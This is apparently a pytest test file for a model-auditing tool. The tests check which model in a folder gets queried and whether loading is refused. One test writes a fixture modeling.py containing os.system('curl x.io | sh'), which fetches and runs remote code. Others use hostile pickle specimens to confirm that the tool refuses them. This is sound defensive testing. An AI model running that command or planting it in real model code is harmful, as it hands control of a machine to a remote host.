"""Which model of a folder is asked, and which is never loaded."""

import json
from pathlib import Path

import pytest

from openvet.askable import AskableModel
from openvet.check import Settings
from openvet.digests import HashMode
from openvet.readers.answers import AnswersReader
from openvet.readers.encoded import EncodedReader
from openvet.run import Options, observed
from openvet.subject import Subject
from openvet.target import local
from specimens.pickles import hostile, torch_zip
from specimens.tensors import Gguf, safetensors

NONE: HashMode = "none"


@pytest.fixture(autouse=True)
def _nobody_asks(monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave it at who could be asked: starting somebody takes seconds."""
    for reader in (AnswersReader, EncodedReader):
        monkeypatch.setattr(reader, "claims", lambda *_: False)


def found(folder: Path, settings: Settings | None = None) -> list[AskableModel]:
    seen: list[AskableModel] = []

    def observe(subject: Subject) -> None:
        if isinstance(subject, AskableModel):
            seen.append(subject)

    options = Options(settings=settings or Settings(ask=True), hashing=NONE)
    observed(local(folder), options, observe)
    return seen


def model(folder: Path, architecture: str = "LlamaForCausalLM", **more: object) -> None:
    folder.mkdir(exist_ok=True)
    config = {"architectures": [architecture], "model_type": "llama", **more}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "model.safetensors").write_bytes(safetensors())


@pytest.mark.parametrize(
    ("architecture", "kind"),
    [
        ("GPT2LMHeadModel", "causal"),
        ("LlamaForCausalLM", "causal"),
        ("BertForMaskedLM", "masked"),
        ("DistilBertForSequenceClassification", "classifier"),
        ("BertModel", "embedding"),
    ],
)
def test_the_architecture_says_how_a_model_is_asked(
    tmp_path: Path, architecture: str, kind: str
) -> None:
    model(tmp_path, architecture)
    (one,) = found(tmp_path)
    assert (one.model.kind, one.model.format) == (kind, "huggingface")
    assert one.model.path == str(tmp_path)
    assert not one.refusal


def test_a_gguf_file_is_a_model_by_itself(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    path.write_bytes(Gguf().text("general.architecture", "llama").build())
    (one,) = found(path)
    assert (one.model.kind, one.model.path) == ("causal", str(path))


@pytest.mark.parametrize(
    "config",
    ["", "[]", "{}", '{"architectures": "x"}', '{"architectures": [3]}', "[" * 9000],
)
def test_what_names_no_architecture_is_no_model(tmp_path: Path, config: str) -> None:
    model(tmp_path)
    (tmp_path / "config.json").write_text(config)
    nobody_is_asked(tmp_path)


def test_a_configuration_without_weights_is_no_model(tmp_path: Path) -> None:
    model(tmp_path)
    (tmp_path / "model.safetensors").unlink()
    nobody_is_asked(tmp_path)


def test_a_file_that_is_no_model_to_ask_is_told_too(tmp_path: Path) -> None:
    (tmp_path / "a.safetensors").write_bytes(safetensors())
    nobody_is_asked(tmp_path / "a.safetensors")


def nobody_is_asked(target: Path) -> None:
    """Hold an audit to saying that it asked nobody, if somebody wanted it to."""
    (subject,) = found(target)
    assert subject.refusal
    assert "nothing was asked" in subject.gaps[0].detail
    assert found(target, Settings()) == []


@pytest.mark.parametrize("target", ["modeling.Mine", "other/code--modeling.Mine"])
def test_a_model_that_names_code_of_its_author_may_open_without_it(
    tmp_path: Path, target: str
) -> None:
    model(tmp_path, auto_map={"AutoModelForCausalLM": target})
    (one,) = found(tmp_path)
    assert not one.refusal
    assert one.complete
    (one,) = found(tmp_path, Settings())
    assert one.complete


def test_code_of_its_author_that_is_hostile_keeps_a_model_from_being_loaded(
    tmp_path: Path,
) -> None:
    model(tmp_path, auto_map={"AutoModelForCausalLM": "modeling.Mine"})
    (tmp_path / "modeling.py").write_text("import os\nos.system('curl x.io | sh')\n")
    (one,) = found(tmp_path)
    assert "modeling.py would harm" in one.refusal


def test_a_model_beside_a_file_that_runs_code_is_refused_unless_said(
    tmp_path: Path,
) -> None:
    model(tmp_path)
    (tmp_path / "optimizer.bin").write_bytes(hostile())
    (one,) = found(tmp_path)
    assert "optimizer.bin would harm" in one.refusal
    assert not one.complete
    (one,) = found(tmp_path, Settings(ask=True, load_unsafe=True))
    assert not one.refusal


def test_it_is_refused_where_the_code_lies_deeper(tmp_path: Path) -> None:
    model(tmp_path / "model")
    (tmp_path / "other.pt").write_bytes(torch_zip(hostile()))
    (one,) = found(tmp_path)
    assert "other.pt would harm" in one.refusal


def test_the_model_nearest_to_the_top_is_asked_and_the_others_are_told(
    tmp_path: Path,
) -> None:
    model(tmp_path)
    model(tmp_path / "draft")
    (one,) = found(tmp_path)
    assert one.model.name == ""
    assert [gap.detail for gap in one.gaps] == [
        "draft is not asked: an audit asks one model"
    ]


def test_nothing_is_left_undone_where_nobody_wants_to_ask(tmp_path: Path) -> None:
    model(tmp_path)
    model(tmp_path / "draft")
    (one,) = found(tmp_path, Settings())
    assert one.complete
